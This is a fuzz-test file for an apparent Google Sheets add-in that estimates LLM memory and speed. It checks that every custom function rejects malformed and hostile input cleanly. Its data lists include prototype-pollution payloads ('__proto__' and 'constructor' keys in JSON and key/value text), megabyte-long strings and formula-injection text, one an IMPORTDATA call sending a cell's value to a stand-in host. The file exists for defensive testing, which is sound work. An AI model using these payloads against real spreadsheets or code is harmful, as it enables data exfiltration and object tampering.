/**
 * Every custom function fuzzed as Sheets calls it (issue 14, class 5): the built bundle, dist/Code.js,
 * loaded in a bare vm context, each registry function called through its top-level stub with
 * arguments of every kind a sheet can hold or a careless or hostile user can type: numbers
 * (negative, zero, fractional, huge, NaN, Infinity), numeric text (decimal, hexadecimal, with
 * thousands separators), booleans, dates, blanks, long text, names Object.prototype has, text that
 * reads as a formula, key/value text and ranges with prototype keys, config.json text, and ranges
 * mixing good and bad values.
 *
 * Asserted of every call:
 * - a result is a finite number, text or TRUE/FALSE, or a rectangle of them;
 * - a thrown error is an Error of the bundle's realm whose message starts with the function's name,
 *   then an argument's name, the argument count, a shape problem or a problem of the inputs
 *   together; never an engine error ("internal error: x is not a function"); at most
 *   MAX_MESSAGE characters, as is every ERROR cell;
 * - no call takes more than SLOW_MS;
 * - in a range, each position is what the same call on that position's single values gives, so a
 *   bad position changes no other;
 * - a call with one bad argument (and good others) names that argument;
 * - nothing is added to or changed on the prototypes of either realm, nor on the bundle's globals.
 *
 * FUZZ_RUNS scales the number of runs (default 1); FUZZ_SEED replays a failure fast-check reported.
 */
import vm from 'node:vm';
import fc from 'fast-check';
import { loadBundle } from '../helpers/bundle';

/** The longest message an error (or an ERROR cell, after "ERROR: ") may have. */
const MAX_MESSAGE = 500;
/** The longest text a cell may hold (Google Sheets' limit). */
const MAX_CELL = 50_000;
/** A call slower than this is a failure (a regular expression or match gone quadratic). */
const SLOW_MS = 1000;

const SCALE = Number(process.env.FUZZ_RUNS ?? '1');
const SEED = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);
const runs = (n: number) => ({
  numRuns: Math.max(1, Math.round(n * SCALE)),
  ...(SEED === undefined ? {} : { seed: SEED }),
});

const bundle = loadBundle();
const realmError = vm.runInContext('Error', bundle.context) as ErrorConstructor;

interface ParamInfo {
  readonly name: string;
  readonly optional: boolean;
}
interface FunctionInfo {
  readonly name: string;
  readonly params: readonly ParamInfo[];
}
const registry = (vm.runInContext('LLMSizing.describeFunctions()', bundle.context) as FunctionInfo[]).map((f) => ({
  name: f.name,
  params: f.params.map((p) => ({ name: p.name, optional: p.optional })),
}));
const byName = new Map(registry.map((f) => [f.name, f]));

type Cell = unknown;

// --- Prototypes and globals, before anything is called --------------------------------------------

const PROTOTYPES = [
  'Object.prototype',
  'Array.prototype',
  'Function.prototype',
  'String.prototype',
  'Number.prototype',
  'Boolean.prototype',
  'Date.prototype',
  'Map.prototype',
  'Set.prototype',
  'RegExp.prototype',
  'Error.prototype',
];

/** Own keys of each prototype, each with the identity of its value or accessors. */
function snapshot(evaluate: (expression: string) => object): Map<string, Map<PropertyKey, unknown[]>> {
  const result = new Map<string, Map<PropertyKey, unknown[]>>();
  for (const name of PROTOTYPES) {
    const proto = evaluate(name);
    const entries = new Map<PropertyKey, unknown[]>();
    for (const key of Reflect.ownKeys(proto)) {
      const d = Object.getOwnPropertyDescriptor(proto, key) as PropertyDescriptor;
      entries.set(key, [d.value, d.get, d.set, d.writable, d.enumerable, d.configurable]);
    }
    result.set(name, entries);
  }
  return result;
}
const hostEval = (expression: string) => new Function(`return ${expression}`)() as object;
const realmEval = (expression: string) => vm.runInContext(expression, bundle.context) as object;
const hostBefore = snapshot(hostEval);
const realmBefore = snapshot(realmEval);
const globalsBefore = Object.keys(bundle.context).sort();

afterAll(() => {
  expect(snapshot(hostEval)).toEqual(hostBefore);
  expect(snapshot(realmEval)).toEqual(realmBefore);
  expect(Object.keys(bundle.context).sort()).toEqual(globalsBefore);
  expect(vm.runInContext('({}).polluted', bundle.context)).toBeUndefined();
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
});

// --- Calling and checking -------------------------------------------------------------------------

type Outcome = { readonly value: unknown } | { readonly message: string };

function call(fn: string, args: readonly unknown[]): Outcome {
  const stub = bundle.fn(fn);
  const start = Date.now();
  let outcome: Outcome;
  try {
    outcome = { value: stub(...args) };
  } catch (error) {
    if (!(error instanceof realmError)) throw new Error(`${fn} threw a non-Error: ${String(error)}`);
    outcome = { message: error.message };
  }
  const took = Date.now() - start;
  if (took > SLOW_MS) throw new Error(`${fn} took ${took} ms on ${describeArgs(args)}`);
  return outcome;
}

function describeArgs(args: readonly unknown[]): string {
  const text = JSON.stringify(args, (_, v: unknown) =>
    typeof v === 'string' && v.length > 100 ? `${v.slice(0, 40)}… (${v.length} characters)` : v,
  );
  return text.length > 2000 ? `${text.slice(0, 2000)}…` : text;
}

/** What a message may say after `FN: `: an argument, the count, a shape, or the inputs together. */
function explains(fn: string, rest: string): boolean {
  const params = (byName.get(fn) as FunctionInfo).params;
  if (params.some((p) => new RegExp(`^${p.name}[ :(]`).test(rest))) return true;
  if (/^(takes at most|needs at least) \d+ arguments?, got \d+; usage /.test(rest)) return true;
  if (/^cannot pair .* with .*; ranges must have equal sizes/.test(rest)) return true;
  if (/^with several metrics \(one column each\)/.test(rest)) return true;
  // Problems of the inputs together: led by the option key at fault (`kv_heads needs heads`, the
  // architecture keys of a model too), or about a field a GPU or model lacks, or the result.
  if (OPTION_KEYS.some((key) => rest.startsWith(`${key} `))) return true;
  return COMBINED.some((pattern) => pattern.test(rest));
}

const OPTION_KEYS = (vm.runInContext('LLMSizing.describeOptions()', bundle.context) as { key: string }[]).map(
  (o) => o.key,
);
const COMBINED = [
  /^the result is not a finite number \(.*\); the inputs are too large$/,
  /^fits needs the GPU's memory; /,
  /^[a-z_]+ needs a GPU$/,
  /^field "[a-z_]+" exists only for presets, not for /,
  / has no (sourced [a-z_]+|dense [a-z0-9]+ peak|[a-z0-9]+ peak|memory bandwidth)\b/,
  / does not state [a-z_ ]+$/,
];

function checkMessage(fn: string, message: string, where: string): void {
  const context = `${where}: ${message.slice(0, 600)}`;
  expect({ context, ok: message.startsWith(`${fn}: `) }).toEqual({ context, ok: true });
  expect({ context, length: message.length <= MAX_MESSAGE }).toEqual({ context, length: true });
  expect({
    context,
    internal: /internal error|is not a function|of undefined|of null|is not iterable/.test(message),
  }).toEqual({
    context,
    internal: false,
  });
  expect({ context, explains: explains(fn, message.slice(fn.length + 2)) }).toEqual({ context, explains: true });
}

function checkCell(fn: string, cell: unknown, where: string): void {
  const ok =
    (typeof cell === 'number' && Number.isFinite(cell)) || typeof cell === 'string' || typeof cell === 'boolean';
  expect({ where, cell, ok }).toEqual({ where, cell, ok: true });
  if (typeof cell !== 'string') return;
  expect({ where, length: cell.length <= MAX_CELL }).toEqual({ where, length: true });
  if (cell.startsWith('ERROR: ')) checkMessage(fn, cell.slice('ERROR: '.length), where);
}

/** The invariants of every call; returns the outcome. */
function checked(fn: string, args: readonly unknown[]): Outcome {
  const outcome = call(fn, args);
  const where = `${fn}(${describeArgs(args)})`;
  if ('message' in outcome) {
    checkMessage(fn, outcome.message, where);
    return outcome;
  }
  const { value } = outcome;
  if (Array.isArray(value)) {
    expect({ where, rows: value.length > 0 }).toEqual({ where, rows: true });
    const width = (value[0] as unknown[]).length;
    for (const row of value as unknown[][]) {
      expect({ where, rectangular: Array.isArray(row) && row.length === width && width > 0 }).toEqual({
        where,
        rectangular: true,
      });
      for (const cell of row) checkCell(fn, cell, where);
    }
  } else {
    checkCell(fn, value, where);
  }
  return outcome;
}

// --- Values ---------------------------------------------------------------------------------------

const CUSTOM_GPU = 'tflops=312; bandwidth_gbs=2039; memory_gb=80';
const LLAMA_CONFIG = JSON.stringify({
  model_type: 'llama',
  hidden_size: 256,
  num_hidden_layers: 2,
  num_attention_heads: 4,
  num_key_value_heads: 2,
  vocab_size: 1000,
  intermediate_size: 512,
  max_position_embeddings: 4096,
});
const MODELS = [
  'llama-3-8b',
  'llama-3.1-70b',
  'mixtral-8x7b',
  'hidden=4096; layers=32; ffn=14336; vocab=128256',
  LLAMA_CONFIG,
];
const GPUS = ['H100', 'A100', 'RTX 4090', CUSTOM_GPU];

/** Values each argument accepts (every combination is a valid call), by function and argument. */
function goodValues(fn: string, param: string): readonly Cell[] {
  switch (param) {
    case 'H':
      return [4096, 64, '4096'];
    case 'L':
      return [32, 2];
    case 'F':
      return [11008, 256];
    case 'V':
      return [32000, 1000];
    case 'B':
    case 'batch':
      return [1, 8, ' 4 '];
    case 'S':
    case 'context':
      return [2048, 1, '1e3'];
    case 'N':
      return [256, 16];
    case 'n_gpus':
      return [1, 8];
    case 'precision':
      return fn === 'LLM_GPU' ? ['fp16', 'bf16', ''] : ['fp16', 'bf16', 'q4_k_m', 'int4', 'fp8'];
    case 'gpu':
      return GPUS;
    case 'efficiency':
    case 'scaling':
      return [0.25, 0.8, '', '.5'];
    case 'base':
    case 'memory_bound':
    case 'utilization':
    case 'framework':
      return [0.4, 0.7, 1, '0.9'];
    case 'options':
      return ['', 'method=seed', 'method=roofline', [['method', 'seed']]];
    case 'model':
      return MODELS;
    case 'metrics':
      return ['params', 'vram_gib', 'tokens_per_s', 'fits', 'kv_cache_gib'];
    case 'name':
      return fn === 'LLM_GPU' ? GPUS : MODELS;
    case 'field':
      return fn === 'LLM_GPU'
        ? ['name', 'tflops', 'memory_gb', 'bandwidth_gbs', 'class', 'source', 'compute_type']
        : ['params', 'hidden', 'name', 'kv_bytes_per_token', 'layers', 'source'];
    default:
      throw new Error(`no good values for ${fn} ${param}`);
  }
}

const PROTOTYPE_NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'prototype',
  '__defineGetter__',
  'isPrototypeOf',
];
const NUMERIC_TEXT = [
  '4096',
  ' 4096 ',
  '1e3',
  '+1',
  '-1',
  '0',
  '0.5',
  '.5',
  '4096.',
  '1,024',
  '0x1000',
  '0X10',
  '0b11',
  '0o7',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e400',
  '',
  '  ',
  '\t',
];
const FORMULA_LIKE = ['=1+1', '+1+1', '-1-1', '@A1', '=IMPORTDATA("https://example.invalid/?q="&A1)', "'=1", ' =1+1'];
const KEY_VALUE_TEXT = [
  '__proto__=1',
  'constructor=1',
  'toString=1; valueOf=2',
  'n_gpus=2; n_gpus=3',
  'kv_overhead=0x2',
  'method=seed; method=seed',
  'method=seed; METHOD=roofline',
  `${CUSTOM_GPU}; constructor=1`,
  `${CUSTOM_GPU}; __proto__=1`,
  `${CUSTOM_GPU}; name==1+1`,
  `${CUSTOM_GPU}; tflops=1`,
  'tflops=0x10',
  'base=H100; tflops_fp8=0b1',
  'hidden=4096; layers=32; ffn=1; vocab=1; __proto__=1',
  'hidden=4096; layers=32; ffn=1; vocab=1; hidden=8',
  'a=1, b=2',
  '=',
  '=1',
  ';;;',
  'kv_heads=8; heads=0x20',
];
/** Values each valid alone that may not go together (a field a custom GPU lacks, keys that need others). */
const COMBINATIONS = [
  'id',
  'tdp_w',
  'price_per_hour',
  'price_stale',
  'interconnect_gbs',
  'tflops_source',
  'note',
  'heads',
  'kv_heads',
  'head_dim',
  'context',
  'expert_ffn',
  'kv_heads=8',
  'heads=3; kv_heads=2',
  'heads=7',
  'experts=8',
  'experts=8; active_experts=9',
  'kv_lora_rank=512',
  'sliding_layers=4',
  'n_gpus=3; parallelism=tensor',
  'engine=llama.cpp; n_gpus=4',
  'efficiency=1; method=seed',
  'max_model_len=1',
  'output_tokens=1000000000000',
  'hidden=1',
  'vocab=1000000000000; hidden=1000000000000',
  'tflops_fp8=100',
  'base=A100; tflops_fp16=1',
  'memory_gb=1; bandwidth_gbs=1',
  'tflops=1',
  'int4',
  'fp4',
  'mxfp4',
  'q2_k',
  'fp32',
  'tf32',
  'TPU v5e',
  'Apple M3 Max',
  'gpt-oss-120b',
  'deepseek-v3',
  'gemma-3-27b',
];
const JSON_TEXT = [
  '{"model_type":"constructor"}',
  '{"model_type":"__proto__"}',
  '{"__proto__":{"polluted":1},"model_type":"llama"}',
  `{"constructor":{"polluted":1},${LLAMA_CONFIG.slice(1)}`,
  `{"__proto__":{"polluted":1},${LLAMA_CONFIG.slice(1)}`,
  LLAMA_CONFIG.replace('"num_key_value_heads":2', '"num_key_value_heads":"eight"'),
  LLAMA_CONFIG.replace('"hidden_size":256', '"hidden_size":"0x100"'),
  '{',
  '{}',
  '[]',
  '{"model_type":"llama","hidden_size":1e400}',
];
const KEY_VALUE_RANGES: Cell[][][] = [
  [['__proto__', 1]],
  [['constructor', 'x']],
  [
    ['n_gpus', 2],
    ['n_gpus', 3],
  ],
  [
    ['tflops', 312],
    ['bandwidth_gbs', 2039],
    ['constructor', 1],
  ],
  [
    ['tflops', 312],
    ['tflops', 100],
  ],
  [
    ['tflops', '0x10'],
    ['bandwidth_gbs', 2039],
  ],
  [
    ['hidden', 4096],
    ['layers', 32],
    ['ffn', 11008],
    ['vocab', 32000],
    ['__proto__', 1],
  ],
  [
    ['hidden', 4096],
    ['layers', 32],
    ['ffn', 11008],
    ['vocab', 32000],
    ['layers', 2],
  ],
  [['{'], ['"model_type": "llama",'], ['"__proto__": {"polluted": 1}'], ['}']],
  [['method', new Date(0)]],
  [['kv_overhead', true]],
];

const aNumber: fc.Arbitrary<Cell> = fc.oneof(
  fc.integer({ min: -1_000_000, max: 1_000_000 }),
  fc.double(),
  fc.constantFrom(
    0,
    -0,
    -1,
    0.5,
    1.5,
    1e12,
    1e13,
    1e15,
    1e300,
    Number.MAX_VALUE,
    Number.MIN_VALUE,
    NaN,
    Infinity,
    -Infinity,
  ),
);
const someText: fc.Arbitrary<Cell> = fc.oneof(
  fc.constantFrom(...NUMERIC_TEXT),
  fc.integer().map(String),
  fc.double().map(String),
  fc.string({ maxLength: 20 }),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.constantFrom(...PROTOTYPE_NAMES),
  fc.constantFrom(...PROTOTYPE_NAMES).map((n) => n.toUpperCase()),
  fc.constantFrom(...FORMULA_LIKE),
  fc.constantFrom(...KEY_VALUE_TEXT),
  fc.constantFrom(...JSON_TEXT),
  fc.constantFrom(...COMBINATIONS),
);
const longText: fc.Arbitrary<Cell> = fc.oneof(
  fc.integer({ min: 81, max: 60_000 }).map((n) => 'x'.repeat(n)),
  fc.integer({ min: 290, max: 310 }).map((n) => 'H100'.padEnd(n, ' ').padEnd(n + 1, 'x')),
  fc.integer({ min: 1, max: 5000 }).map((n) => '1'.repeat(n) + 'x'),
  fc.integer({ min: 1, max: 5000 }).map((n) => `${'('.repeat(n)}H100`),
  fc.integer({ min: 1, max: 2000 }).map((n) => 'a=1;'.repeat(n)),
  fc.constant('y'.repeat(1 << 20)),
);
const aDate: fc.Arbitrary<Cell> = fc.date({ noInvalidDate: false });
const aBlank: fc.Arbitrary<Cell> = fc.constantFrom('', null);

/** One cell of anything. */
const anyCell: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 3, arbitrary: aNumber },
  { weight: 4, arbitrary: someText },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: aDate },
  { weight: 1, arbitrary: aBlank },
  { weight: 1, arbitrary: longText },
);

/** A rectangle of cells (1-4 rows, 1-3 columns). */
const anyGrid: fc.Arbitrary<Cell[][]> = fc
  .tuple(fc.integer({ min: 1, max: 4 }), fc.integer({ min: 1, max: 3 }))
  .chain(([rows, cols]) =>
    fc.array(fc.array(anyCell, { minLength: cols, maxLength: cols }), { minLength: rows, maxLength: rows }),
  );

/** An argument of anything: a cell, a range, a key/value range. */
const anyArg: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: anyCell },
  { weight: 2, arbitrary: anyGrid },
  { weight: 1, arbitrary: fc.constantFrom(...KEY_VALUE_RANGES) },
  { weight: 2, arbitrary: fc.constantFrom(...COMBINATIONS) },
);

const aFunction = fc.constantFrom(...registry);

/** A good value of each argument. */
const goodArgs = (f: FunctionInfo): fc.Arbitrary<Cell[]> =>
  fc.tuple(...f.params.map((p) => fc.constantFrom(...goodValues(f.name, p.name))));

// --- Properties -----------------------------------------------------------------------------------

describe('every function, fuzzed through the bundle', () => {
  test('good arguments give a result', () => {
    fc.assert(
      fc.property(
        aFunction.chain((f) => fc.tuple(fc.constant(f), goodArgs(f))),
        ([f, args]) => {
          const outcome = checked(f.name, args);
          expect({ call: `${f.name}(${describeArgs(args)})`, outcome }).toEqual({
            call: `${f.name}(${describeArgs(args)})`,
            outcome: { value: expect.anything() },
          });
        },
      ),
      runs(300),
    );
  });

  test('any arguments: a result of finite numbers, text and booleans, or an error that says what is wrong', () => {
    const args = aFunction.chain((f) =>
      fc.tuple(
        fc.constant(f),
        fc.tuple(
          ...f.params.map((p) =>
            fc.oneof(
              { weight: 2, arbitrary: fc.constantFrom(...goodValues(f.name, p.name)) },
              { weight: 1, arbitrary: anyArg },
            ),
          ),
        ),
        // Fewer arguments (down to none), as many, or one too many.
        fc.integer({ min: -f.params.length, max: 1 }),
        anyArg,
      ),
    );
    fc.assert(
      fc.property(args, ([f, values, change, extra]) => {
        const list: unknown[] = change <= 0 ? values.slice(0, values.length + change) : [...values, extra];
        checked(f.name, list);
      }),
      runs(1500),
    );
  });

  test('in a range, each position is the call on its single values: a bad position changes no other', () => {
    const broadcast = registry.filter((f) => f.params.some((p) => p.name !== 'options' && p.name !== 'metrics'));
    // A cell of a column: not a range, and not config.json text (a column of it is read whole, as lines).
    const notWhole = (cell: Cell) => !Array.isArray(cell) && !(typeof cell === 'string' && cell.trim().startsWith('{'));
    const cases = fc.constantFrom(...broadcast).chain((f) => {
      const columns = f.params
        .map((p, i) => ({ p, i }))
        .filter(({ p }) => p.name !== 'options' && p.name !== 'metrics');
      return fc.tuple(
        fc.constant(f),
        goodArgs(f),
        fc.subarray(
          columns.map((c) => c.i),
          { minLength: 1 },
        ),
        fc.integer({ min: 2, max: 4 }).chain((rows) =>
          fc.array(
            fc.array(
              fc.oneof(
                {
                  weight: 2,
                  arbitrary: fc.constantFrom(...f.params.flatMap((p) => goodValues(f.name, p.name))).filter(notWhole),
                },
                { weight: 2, arbitrary: anyCell.filter(notWhole) },
              ),
              { minLength: rows, maxLength: rows },
            ),
            { minLength: f.params.length, maxLength: f.params.length },
          ),
        ),
      );
    });
    fc.assert(
      fc.property(cases, ([f, good, ranged, columns]) => {
        const rows = columns[0].length;
        const args: unknown[] = good.map((value, i) => (ranged.includes(i) ? columns[i].map((cell) => [cell]) : value));
        const whole = checked(f.name, args);
        const where = `${f.name}(${describeArgs(args)})`;
        for (let r = 0; r < rows; r++) {
          const single = good.map((value, i) => (ranged.includes(i) ? columns[i][r] : value));
          const alone = checked(f.name, single);
          if ('message' in whole) {
            // Only an argument read whole (options) fails the whole range; it fails each position alike.
            expect({ where, alone }).toEqual({ where, alone: { message: whole.message } });
            continue;
          }
          const cell = (whole.value as unknown[][])[r][0];
          const blankRow = ranged.every((i) => columns[i][r] === '' || columns[i][r] === null);
          if (blankRow) {
            expect({ where, r, cell }).toEqual({ where, r, cell: '' });
            continue;
          }
          // A call on single values whose required numbers are all blank is blank (the contract's rule
          // for a call on single values); in a range that position has other cells, and is computed.
          const numericBlank = f.params.every(
            (p, i) => p.optional || !isNumeric(p.name) || single[i] === '' || single[i] === null,
          );
          if (numericBlank && f.params.some((p) => isNumeric(p.name))) continue;
          const expected = 'message' in alone ? `ERROR: ${alone.message}` : alone.value;
          expect({ where, r, cell }).toEqual({ where, r, cell: expected });
        }
      }),
      runs(300),
    );
  });

  test('one bad argument among good ones: the error names it', () => {
    const cases = aFunction
      .filter((f) => f.params.length > 0)
      .chain((f) =>
        fc
          .integer({ min: 0, max: f.params.length - 1 })
          .chain((i) =>
            fc.tuple(fc.constant(f), goodArgs(f), fc.constant(i), fc.constantFrom(...badValues(f, f.params[i]))),
          ),
      );
    fc.assert(
      fc.property(cases, ([f, good, i, bad]) => {
        const args = good.map((value, j) => (j === i ? bad : value));
        const outcome = checked(f.name, args);
        const where = `${f.name}(${describeArgs(args)})`;
        const message = 'message' in outcome ? outcome.message : `no error: ${String(outcome.value)}`;
        expect({ where, names: new RegExp(`^${f.name}: ${f.params[i].name}[ :(]`).test(message), message }).toEqual({
          where,
          names: true,
          message,
        });
      }),
      runs(600),
    );
  });
});

const NUMERIC = new Set([
  'H',
  'L',
  'F',
  'V',
  'B',
  'S',
  'N',
  'batch',
  'context',
  'n_gpus',
  'efficiency',
  'scaling',
  'base',
  'memory_bound',
  'utilization',
  'framework',
]);
function isNumeric(param: string): boolean {
  return NUMERIC.has(param);
}

/** Values an argument refuses whatever the (good) others are. */
function badValues(f: FunctionInfo, param: ParamInfo): readonly Cell[] {
  const fn = f.name;
  const common: Cell[] = [true, false, new Date(0), new Date(NaN), ...PROTOTYPE_NAMES, '=1+1', 'x'.repeat(50_000)];
  // A blank is refused where required, except the only required number: a call whose required
  // numbers are all blank is blank (the contract's rule for a half-filled row).
  const onlyNumber = isNumeric(param.name) && f.params.filter((p) => !p.optional && isNumeric(p.name)).length === 1;
  const required = param.optional || onlyNumber ? [] : ['', null];
  switch (param.name) {
    case 'H':
    case 'L':
    case 'F':
    case 'V':
    case 'B':
    case 'S':
    case 'N':
    case 'batch':
    case 'context':
    case 'n_gpus':
      return [...common, ...required, -1, 0, 1.5, 1e13, NaN, Infinity, '0x10', '0b11', '0o7', '1,024', 'abc', '-0x10'];
    case 'efficiency':
    case 'scaling':
    case 'base':
    case 'memory_bound':
    case 'utilization':
    case 'framework':
      return [...common, ...required, 0, -0.5, 1.5, NaN, '0x1', '0b1', 'abc', '1e400'];
    case 'precision':
      return fn === 'LLM_GPU'
        ? [...common, 'fp61', 'int3', 7]
        : [...common, ...required, 'fp61', 16, 'y'.repeat(1 << 20)];
    case 'gpu':
      return [
        ...common,
        ...required,
        'H1000',
        'tflops=0x10',
        `${CUSTOM_GPU}; constructor=1`,
        `${CUSTOM_GPU}; __proto__=1`,
        `${CUSTOM_GPU}; memory_gb=1`,
        '2x H100',
        'z'.repeat(400),
        'tflops=1; tflops=2',
      ];
    case 'name':
      return fn === 'LLM_GPU'
        ? badValues(f, { name: 'gpu', optional: false })
        : badValues(f, { name: 'model', optional: false });
    case 'model':
      return [
        ...common,
        ...required,
        'llama-9000b',
        'meta-llama/Llama-9000',
        '{"model_type":"constructor"}',
        '{',
        '[]',
        'hidden=0x10; layers=1; ffn=1; vocab=1',
        'hidden=1; hidden=2; layers=1; ffn=1; vocab=1',
        'hidden=1; layers=1; ffn=1; vocab=1; constructor=1',
        JSON_TEXT[5],
        'z'.repeat(400),
      ];
    case 'metrics':
    case 'field':
      return [...common, ...required, 'colour', 'vram', 7];
    case 'options':
      return [
        ...common,
        '__proto__=1',
        'constructor=1',
        'toString=1',
        'method=seed; method=seed',
        'zzz=1',
        'method=0x1',
        'method=__proto__',
        42,
        [['__proto__', 1]],
        [['constructor', 1]],
        [
          ['method', 'seed'],
          ['METHOD', 'seed'],
        ],
        [['method', 'seed', 'x']],
      ];
    default:
      throw new Error(`no bad values for ${fn} ${param.name}`);
  }
}

// --- The hostile cases of issue 14, by name ---------------------------------------------------------

const VRAM = [4096, 32, 11008, 32000, 1, 2048, 'fp16'];
const SPEED = [...VRAM, 'A100'];

describe('the hostile cases of issue 14', () => {
  test.each<[string, string, unknown[], string | RegExp]>([
    [
      'a prototype name as a field',
      'LLM_MODEL',
      ['llama-3.1-8b', 'constructor'],
      'LLM_MODEL: field must be one of id, name,',
    ],
    ['__proto__ as a GPU field', 'LLM_GPU', ['H100', '__proto__'], 'LLM_GPU: field must be one of name, id,'],
    [
      '__proto__ as an options key',
      'LLM_VRAM',
      [...VRAM, '__proto__=1'],
      'LLM_VRAM: options has an unknown key "__proto__";',
    ],
    [
      'constructor as an options key',
      'LLM_VRAM',
      [...VRAM, 'constructor=1'],
      'LLM_VRAM: options has an unknown key "constructor";',
    ],
    [
      'constructor as a key of a key/value range',
      'LLM_VRAM',
      [...VRAM, [['constructor', 1]]],
      'LLM_VRAM: options has an unknown key "constructor";',
    ],
    [
      'constructor as a custom GPU key',
      'LLM_GPU',
      [`${CUSTOM_GPU}; constructor=1`, 'name'],
      'LLM_GPU: name (GPU name): unknown custom GPU key "constructor"',
    ],
    [
      'a config.json model_type of __proto__',
      'LLM_ESTIMATE',
      ['{"model_type":"__proto__"}', 'params', 1, 1, 'fp16', 'H100'],
      'LLM_ESTIMATE: model: config.json model_type "__proto__" is not one this add-in reads',
    ],
    [
      'a 50,000-character argument',
      'LLM_VRAM',
      ['x'.repeat(50_000), ...VRAM.slice(1)],
      /^LLM_VRAM: H \(hidden size\) must be a number, got "x{59}…" \(50,000 characters\)$/,
    ],
    [
      'a 1 MB GPU name',
      'LLM_GPU',
      ['x'.repeat(1 << 20), 'name'],
      'is 1,048,576 characters long; a GPU name is at most 300 characters',
    ],
    [
      'a 1 MB model name',
      'LLM_MODEL',
      ['x'.repeat(1 << 20), 'name'],
      'is 1,048,576 characters long; a model name is at most 300 characters',
    ],
    ['a key given twice', 'LLM_TOKEN_LATENCY', [...SPEED, '', 'n_gpus=2; n_gpus=3'], 'options sets "n_gpus" twice'],
    [
      'a key given twice in a range',
      'LLM_TOKEN_LATENCY',
      [
        ...SPEED,
        '',
        [
          ['n_gpus', 2],
          ['n_gpus', 3],
        ],
      ],
      'options sets "n_gpus" twice',
    ],
    [
      'hexadecimal text as H',
      'LLM_VRAM',
      ['0x1000', ...VRAM.slice(1)],
      'LLM_VRAM: H (hidden size) must be a number, got "0x1000"',
    ],
    [
      'hexadecimal text as batch',
      'LLM_ESTIMATE',
      ['llama-3-8b', 'params', '0x10', 1, 'fp16', 'H100'],
      'LLM_ESTIMATE: batch (batch size) must be a number, got "0x10"',
    ],
    [
      'binary text in options',
      'LLM_TOKEN_LATENCY',
      [...SPEED, '', 'n_gpus=0b11'],
      'options key n_gpus must be a number, got "0b11"',
    ],
    [
      'a wrong-typed config.json field',
      'LLM_ESTIMATE',
      [JSON_TEXT[5], 'params', 1, 1, 'fp16', 'H100'],
      'LLM_ESTIMATE: model: config.json field num_key_value_heads must be a whole number of 1 or more, got "eight"',
    ],
    ['formula-like text as a GPU', 'LLM_GPU', ['@A1', 'name'], 'LLM_GPU: name (GPU name): unknown GPU "@A1"'],
    [
      'formula text as a GPU',
      'LLM_GPU',
      ['=1+1', 'name'],
      'LLM_GPU: name (GPU name) has a value without a key: "=1+1"',
    ],
    ['formula-like text as a model', 'LLM_MODEL', ['@A1', 'name'], 'LLM_MODEL: name (model): unknown model "@A1"'],
  ])('%s', (_, fn, args, expected) => {
    const outcome = checked(fn, args);
    expect('message' in outcome ? outcome.message : outcome).toEqual(
      typeof expected === 'string' ? expect.stringContaining(expected) : expect.stringMatching(expected),
    );
  });

  test('a polluting config.json changes nothing and pollutes nothing', () => {
    const plain = call('LLM_ESTIMATE', [LLAMA_CONFIG, 'params', 1, 1, 'fp16', 'H100']);
    for (const text of [JSON_TEXT[3], JSON_TEXT[4]]) {
      expect(call('LLM_ESTIMATE', [text, 'params', 1, 1, 'fp16', 'H100'])).toEqual(plain);
    }
    expect(vm.runInContext('({}).polluted', bundle.context)).toBeUndefined();
  });
});
